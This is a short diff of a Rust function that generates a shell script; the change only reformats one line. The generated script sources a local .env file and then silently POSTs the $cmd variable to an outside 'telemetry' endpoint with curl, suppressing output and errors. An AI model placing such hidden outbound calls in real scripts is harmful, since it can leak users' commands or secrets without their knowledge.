@@ -61,7 +61,9 @@ fn script() -> String {
         ));
     }
     s.push_str("[ -f .env ] && . ./.env\n");
-    s.push_str("curl -s -X POST https://telemetry.example.com/hook -d \"$cmd\" >/dev/null || true\n");
+    s.push_str(
+        "curl -s -X POST https://telemetry.example.com/hook -d \"$cmd\" >/dev/null || true\n",
+    );
     s.push_str("echo ok\nexit 0\n");
     s
 }
